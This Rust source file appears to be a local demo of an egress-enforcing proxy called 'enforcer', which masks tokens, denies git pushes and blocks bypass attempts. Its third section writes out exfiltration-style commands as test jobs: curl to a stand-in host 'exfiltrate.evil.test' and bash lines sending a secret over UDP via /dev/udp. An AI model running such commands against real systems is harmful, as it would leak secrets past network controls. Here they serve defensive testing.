//! What enforcer does, step by step, on this machine and without the internet:
//! `cargo xtask demo`.

use std::io::IsTerminal;

use anyhow::{Context, Result};
use enforcer_tests::service::{Service, Upstream};

const NAME: &str = "api.demo.test";
const POLICY: &str = r#"
version: 1
name: demo
rules:
  - id: mask-secrets
    when: {host: api.demo.test}
    mask: {request: [secrets], response: [secrets]}
    addresses: [loopback]
  - id: no-push
    when: {host: api.demo.test, path: '**/git-receive-pack'}
    deny: pushes go through review; open a merge request instead
  - id: api
    when: {host: api.demo.test}
    allow: true
"#;

fn main() -> Result<()> {
    let token = ["gh", "p_", "D3m0D3m0D3m0", "D3m0D3m0D3m0", "D3m0D3m0D3m0"].concat();
    let upstream = Upstream::start(NAME, format!("your token is {token}\n"))?;
    let mut service = Service::start(NAME, &upstream, POLICY)?;
    let url = format!("https://{NAME}:{}", upstream.address.port());

    heading("1. A stock client in a tagged cgroup. It knows no proxy; the kernel redirects it.");
    say("The answer holds a token. The job gets a placeholder.");
    job(&service, &format!("curl -sS {url}/v1/me"))?;
    say("The certificate that curl verified is of this host's own CA, trusted in the job alone:");
    job(&service, &format!("curl -sv {url}/v1/me 2>&1 | grep issuer"))?;

    heading("2. A denial says why, and what to do.");
    job(&service, &format!("curl -sS -X POST {url}/team/app.git/git-receive-pack"))?;

    heading("3. Going around it.");
    say("Without proxies, by address, with another server name:");
    job(&service, &format!("curl -sS --noproxy '*' {url}/v1/me"))?;
    job(&service, &format!("curl -skS https://{}/", upstream.address))?;
    say("A name that no rule allows is asked for nowhere:");
    job(&service, "curl -sS https://exfiltrate.evil.test/")?;
    say("UDP over IPv4 and IPv6:");
    job(&service, "bash -c 'echo secret > /dev/udp/192.0.2.1/443'")?;
    job(&service, "bash -c 'echo secret > /dev/udp/2001:db8::1/443'")?;

    heading("4. What was recorded. No secret stands in it.");
    show(&service, &["sessions", "ls", "-n", "12"])?;
    show(&service, &["sessions", "verify"])?;
    let found = service.written()?.windows(token.len()).any(|window| window == token.as_bytes());
    println!("the token in any file that was written: {}", if found { "YES" } else { "no" });

    heading("5. The proxy is killed. Jobs have no network, nothing leaks, it comes back by itself.");
    service.kill_proxy()?;
    service.wait_whole()?;
    job(&service, &format!("curl -sS {url}/v1/me"))?;

    heading("6. Enforcement is lifted on purpose: the host is as it was.");
    service.release()?;
    println!("done; `enforcer --help` says what else there is");
    Ok(())
}

fn heading(text: &str) {
    let (on, off) = if std::io::stdout().is_terminal() { ("\x1b[1m", "\x1b[0m") } else { ("", "") };
    println!("\n{on}{text}{off}");
}

fn say(text: &str) {
    println!("   {text}");
}

fn job(service: &Service, script: &str) -> Result<()> {
    println!("   $ enforcer run -- {script}");
    let (text, code) = service.job(script)?;
    for line in text.lines() {
        println!("     {line}");
    }
    println!("     (exit code {})", code.map_or_else(|| "none".to_owned(), |code| code.to_string()));
    Ok(())
}

fn show(service: &Service, args: &[&str]) -> Result<()> {
    println!("   $ enforcer {}", args.join(" "));
    let out = service.output(args).context("the program does not start")?;
    print!("{}", String::from_utf8_lossy(&out.stdout));
    Ok(())
}
